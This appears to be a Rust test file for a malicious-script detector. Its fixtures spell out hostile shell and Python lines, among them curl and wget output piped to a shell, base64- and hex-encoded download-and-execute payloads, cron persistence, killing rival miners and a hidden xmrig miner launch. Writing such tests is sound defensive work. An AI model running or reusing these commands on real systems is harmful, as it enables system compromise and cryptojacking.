use super::ScriptAnalyzer;
use crate::analyze::config::ConfigAnalyzer;
use crate::analyze::testkit::{check_manifest, rule_class, run};
use crate::judge::finding::Class;
use crate::judge::verdict::Level;

#[test]
fn manifest() {
    let failures = check_manifest(&[&ConfigAnalyzer, &ScriptAnalyzer], "script");
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

fn both(
    name: &str,
    text: &str,
) -> (
    Vec<crate::judge::finding::Finding>,
    crate::judge::verdict::Verdict,
) {
    run(&[&ConfigAnalyzer, &ScriptAnalyzer], name, text.as_bytes())
}

#[test]
fn one_behaviour_alone_is_clean_and_classes_combine() {
    let (f, v) = both(
        "up.sh",
        "#!/bin/sh\ncurl -s https://get.example.com | bash\n",
    );
    assert_eq!(
        rule_class(&f, "script", "pipe_to_shell"),
        Some(Class::DownloadExec)
    );
    assert_eq!(v.level, Level::Clean);
    let (f, v) = both(
        "up.sh",
        "#!/bin/sh\nkillall -9 xmrig minerd\n./xmrig -o stratum+tcp://198.51.100.1:3333 -u x\n",
    );
    assert_eq!(
        rule_class(&f, "script", "kill_rival_miners"),
        Some(Class::RivalKill)
    );
    assert_eq!(v.level, Level::Malicious);
}

#[test]
fn rivals_named_in_a_list_above_the_kill() {
    let text = "#!/bin/bash\nprocs=(xmrig ccminer cpuminer-opt)\nfor p in \"${procs[@]}\"; do\n  pkill -9 -f \"$p\"\ndone\n";
    let (f, _) = both("k.sh", text);
    assert_eq!(
        rule_class(&f, "script", "kill_rival_miners"),
        Some(Class::RivalKill)
    );
    // An unrelated kill is not a rival kill.
    let (f, _) = both("k.sh", "#!/bin/bash\nkill -HUP $(cat /run/nginx.pid)\n");
    assert!(rule_class(&f, "script", "kill_rival_miners").is_none());
}

#[test]
fn decodes_one_layer_of_base64() {
    use base64::Engine as _;
    let inner = "import os\nos.system('wget -q http://203.0.113.2/a -O- | sh')\n";
    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
    let text = format!("import base64\nexec(base64.b64decode('{b64}'))\n");
    let (f, v) = both("x.py", &text);
    assert_eq!(
        rule_class(&f, "script", "base64_to_shell"),
        Some(Class::Evasion)
    );
    assert_eq!(
        rule_class(&f, "script", "pipe_to_shell"),
        Some(Class::DownloadExec)
    );
    assert_eq!(
        rule_class(&f, "script", "encoded_payload"),
        Some(Class::Evasion)
    );
    assert_eq!(v.level, Level::Suspicious);
}

#[test]
fn documentation_is_judged_by_its_content_not_its_name() {
    let commands =
        "curl x | sh\n(crontab -l; echo '* * * * * x') | crontab -\nchattr +i /etc/resolv.conf\n";
    // Shown as an example in prose: information.
    let doc = format!(
        "# Hardening guide\n\nAttackers often run the following commands after they get in:\n\n```sh\n{commands}```\n\nWatch your cron jobs and immutable files for this pattern.\n"
    );
    let (f, v) = both("guide.md", &doc);
    assert_eq!(v.level, Level::Clean, "{f:?}");
    assert_eq!(rule_class(&f, "script", "pipe_to_shell"), Some(Class::Info));
    // The same commands alone, under a documentation name and directory: a script.
    let (_, v) = both("docs/guide.md", commands);
    assert_eq!(v.level, Level::Malicious);
}

#[test]
fn word_boundaries_are_dropped_but_escaped_backslashes_kept() {
    use super::without_word_boundaries;
    assert_eq!(without_word_boundaries(r"\bpkill\b"), "pkill");
    assert_eq!(without_word_boundaries(r"C:\\bin\s\B"), r"C:\\bin\s\B");
    assert_eq!(without_word_boundaries(r"a\\\bb"), r"a\\b");
}

/// The whole-text gate admits every heuristic that matches any line of any text fixture,
/// with CRLF line ends and non-ASCII text around.
#[test]
fn the_line_gate_admits_every_line_match() {
    use super::{gated_line_regexes, LINE_GATE, RULES, RULE_REGEXES};
    let line_regexes = gated_line_regexes();
    let mut checked = 0;
    for (_, text) in crate::analyze::testkit::text_fixtures() {
        let text = text.replace('\n', " é\r\n");
        let gate = LINE_GATE.matches(&text);
        for line in text.lines() {
            for (i, (re, _)) in RULE_REGEXES.iter().enumerate() {
                if re.is_match(line) {
                    assert!(gate.matched(i), "rule {} on {line:?}", RULES[i].rule);
                    checked += 1;
                }
            }
            for (k, re) in line_regexes.iter().enumerate() {
                if re.is_match(line) {
                    assert!(gate.matched(RULES.len() + k), "{} on {line:?}", re.as_str());
                    checked += 1;
                }
            }
        }
    }
    assert!(checked > 50, "only {checked} line matches checked");
}

#[test]
fn every_line_heuristic_has_a_gate_the_shared_pass_can_find() {
    let gates = super::GATES
        .as_ref()
        .expect("a line heuristic without a literal of three printable characters");
    assert!(gates.needles.iter().any(|n| n == "crontab"));
    assert!(gates.needles.iter().any(|n| n == "xmrig"));
    assert_eq!(gates.checks.len(), super::LINE_GATE.len());
}

#[test]
fn a_text_without_the_gates_needles_is_not_read_line_by_line_and_one_with_them_is() {
    // Near miss: a script of ordinary commands (none of the needles) gives nothing.
    let plain = "#!/bin/sh\nset -e\ncd /srv/app\nmake -j4 all\necho done\n";
    let (findings, _) = run(&[&ScriptAnalyzer], "build.sh", plain.as_bytes());
    assert!(findings.is_empty(), "{findings:?}");
    // The same script with one persistence line: the gate lets it through and the rule fires.
    let dropper = format!("{plain}(crontab -l; echo '* * * * * /tmp/x') | crontab -\n");
    let (findings, _) = run(&[&ScriptAnalyzer], "build.sh", dropper.as_bytes());
    assert!(
        rule_class(&findings, "script", "cron_persistence").is_some(),
        "{findings:?}"
    );
}

#[test]
fn base64_runs_are_found_in_one_pass() {
    let run = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w";
    assert!(super::has_b64_run(format!("x = '{run}'").as_bytes(), 40));
    // Near miss: runs broken by a character outside the alphabet, each shorter than asked.
    let broken = format!("{}.{}", &run[..39], &run[..39]);
    assert!(!super::has_b64_run(broken.as_bytes(), 40));
}

#[test]
fn background_and_start_b_hide_a_miner_only() {
    let (f, v) = both(
        "go.bat",
        "@echo off\nstart \"\" /b C:\\x\\sysmon.exe -o 198.51.100.3:3333 -u 41pmnqWeNug1ikEBmYhajkDoyXHMNd5nSRuAdPwsKWQSdphFyVWJQ3t76QN1Jt34YJKBdf6thxZazXGpmDVCezCzVXJinrj --background\n",
    );
    assert_eq!(
        rule_class(&f, "script", "hidden_window"),
        Some(Class::Evasion)
    );
    assert_eq!(
        rule_class(&f, "script", "background_flag"),
        Some(Class::Evasion)
    );
    assert_eq!(v.level, Level::Malicious);
    let (f, v) = both(
        "agent.bat",
        "@echo off\nstart \"\" /b acme-agent.exe --config agent.ini --background\n",
    );
    assert_eq!(
        rule_class(&f, "script", "background_flag"),
        Some(Class::Info)
    );
    assert_eq!(v.level, Level::Clean);
}

#[test]
fn hex_encoded_commands_are_decoded_and_digests_are_not() {
    let cmd = "curl -s http://198.51.100.9/x -o /tmp/.x/k && chmod +x /tmp/.x/k";
    let hex: String = cmd.bytes().map(|b| format!("{b:02x}")).collect();
    let (f, _) = both(
        "u.py",
        &format!("import os\nos.system(bytes.fromhex(\"{hex}\").decode())\n"),
    );
    assert_eq!(
        rule_class(&f, "script", "download_chmod_exec"),
        Some(Class::DownloadExec)
    );
    assert_eq!(
        rule_class(&f, "script", "encoded_payload"),
        Some(Class::Evasion)
    );
    let (f, v) = both(
        "t.py",
        "SHA = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"\nK = \"000102030405060708090A0B0C0D0E0F101112131415161718191A1B1C1D1E1F\"\n",
    );
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(v.level, Level::Clean);
}
